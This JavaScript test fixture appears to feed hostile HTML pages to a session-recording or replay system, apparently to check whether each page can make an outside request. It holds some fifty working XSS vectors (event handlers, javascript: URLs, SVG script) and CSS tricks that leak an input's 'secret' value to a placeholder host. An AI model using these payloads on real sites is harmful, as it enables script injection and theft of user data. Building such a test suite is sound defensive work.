// @ts-check
// Hostile pages, each named by what it tries: as HTML that calls `URL` where nothing holds it back, and as a recording.

/** @typedef {[name: string, html: string]} Vector */

const RUN = "fetch('URL',{mode:'no-cors'})";

/** Each calls in Chromium, where it is let. @type {Vector[]} */
export const VECTORS = [
  ["script", `<script>${RUN}</script>`],
  ["script address", `<script src="URL"></script>`],
  ["img onerror", `<img src="data:," onerror="${RUN}">`],
  ["body onload", `<body onload="${RUN}">`],
  ["onfocus", `<input autofocus onfocus="${RUN}">`],
  ["javascript: frame", `<iframe src="javascript:${RUN}"></iframe>`],
  ["javascript: link", `<a href="javascript:${RUN}" id="press">x</a>`],
  ["javascript: form", `<form action="javascript:${RUN}"><button id="press">x</button></form>`],
  ["javascript: formaction", `<form><button formaction="javascript:${RUN}" id="press">x</button></form>`],
  ["onclick", `<p onclick="${RUN}" id="press">x</p>`],
  ["frame", `<iframe src="URL"></iframe>`],
  ["srcdoc", `<iframe srcdoc="&lt;img src=URL&gt;"></iframe>`],
  ["object", `<object data="URL"></object>`],
  ["embed", `<embed src="URL">`],
  ["img", `<img src="URL">`],
  ["srcset", `<img srcset="URL 1x">`],
  ["picture source", `<picture><source srcset="URL"><img></picture>`],
  ["image input", `<input type="image" src="URL">`],
  ["background", `<table background="URL"><tr><td>x</table>`],
  ["poster", `<video poster="URL"></video>`],
  ["video", `<video src="URL" autoplay></video>`],
  ["audio", `<audio src="URL" autoplay></audio>`],
  ["track", `<video src="data:video/mp4,x"><track src="URL" default kind="captions"></video><script>document.querySelector("track").track.mode="showing"</script>`],
  ["stylesheet", `<link rel="stylesheet" href="URL">`],
  ["preload", `<link rel="preload" as="image" href="URL">`],
  ["modulepreload", `<link rel="modulepreload" href="URL">`],
  ["base", `<base href="BASE"><img src="NAME">`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=URL">`],
  ["css url", `<style>p{background:url(URL)}</style><p>x</p>`],
  ["css url in style", `<p style="background:url(URL)">x</p>`],
  ["css import", `<style>@import "URL";</style>`],
  ["css import url", `<style>@import url(URL);</style>`],
  ["css image-set", `<style>p{background:image-set("URL" 1x)}</style><p>x</p>`],
  ["css font", `<style>@font-face{font-family:f;src:url(URL)}p{font-family:f}</style><p>x</p>`],
  ["css exfiltration", `<style>input[value^="se"]{background:url(URL)}</style><input value="secret">`],
  ["css exfiltration by has", `<style>form:has(input[value^="se"]){list-style:url(URL);display:list-item}</style><form><input value="secret"></form>`],
  ["css escape", `<style>p{background:u\\72l(URL)}</style><p>x</p>`],
  ["css variable", `<style>p{--a:url(URL);background:var(--a)}</style><p>x</p>`],
  ["css content", `<style>p::before{content:url(URL)}</style><p>x</p>`],
  ["css cursor", `<style>html,body,p{cursor:url(URL),auto;min-height:100px}</style><p id="press">x</p>`],
  ["css mask", `<style>p{mask-image:url(URL)}</style><p>x</p>`],
  ["svg onload", `<svg onload="${RUN}"></svg>`],
  ["svg script", `<svg><script>${RUN}</script></svg>`],
  ["svg image", `<svg><image href="URL" width="9" height="9"/></svg>`],
  ["svg image xlink", `<svg><image xlink:href="URL" width="9" height="9"/></svg>`],
  ["svg feImage", `<svg><filter id="f"><feImage href="URL"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`],
  ["svg animate", `<svg><image width="9" height="9"><set attributeName="href" to="URL"/></image></svg>`],
  ["svg style", `<svg><style>rect{mask-image:url(URL)}</style><rect width="9" height="9"/></svg>`],
  ["foreignObject", `<svg><foreignObject width="9" height="9"><img src="URL"></foreignObject></svg>`],
  ["foreignObject onerror", `<svg><foreignObject width="9" height="9"><img src="data:," onerror="${RUN}"></foreignObject></svg>`],
];

/** @param {Vector} vector @param {string} origin where it would call */
export function page([name, html], origin) {
  const path = name.replaceAll(/\W+/g, "-"), url = `${origin}/${path}`;
  return { path: `/${path}`, html: html.replaceAll("URL", url).replaceAll("BASE", `${origin}/`).replaceAll("NAME", path) };
}

/**
 * In a page: what a recorder that hides nothing makes of HTML, as events.
 * @param {string} html
 */
export function recorded(html) {
  const parsed = new DOMParser().parseFromString(html, "text/html");
  let id = 0;
  /** @param {Node} node @returns {any} */
  const told = (node) => {
    const own = ++id;
    if (node.nodeType === 3) return { type: 3, id: own, textContent: node.textContent };
    if (node.nodeType !== 1) return null;
    const element = /** @type {Element} */ (node);
    const attributes = Object.fromEntries([...element.attributes].map((a) => [a.name, a.value]));
    const svg = element instanceof SVGElement ? { isSVG: true } : {};
    if (element.localName === "style") /** @type {any} */ (attributes)._cssText = element.textContent ?? "";
    return { type: 2, id: own, tagName: element.localName === "foreignobject" ? "foreignObject" : element.nodeName.toLowerCase() === element.localName ? element.localName : element.nodeName.toLowerCase(), attributes, childNodes: [...element.childNodes].map(told).filter(Boolean), ...svg };
  };
  const whole = told(parsed.documentElement);
  const document = { type: 0, id: ++id, childNodes: [{ type: 1, id: ++id, name: "html", publicId: "", systemId: "" }, whole] };
  return [
    { type: 4, timestamp: 1, data: { href: "https://shop.example/", width: 800, height: 600 } },
    { type: 2, timestamp: 2, data: { node: document, initialOffset: { left: 0, top: 0 } } },
  ];
}
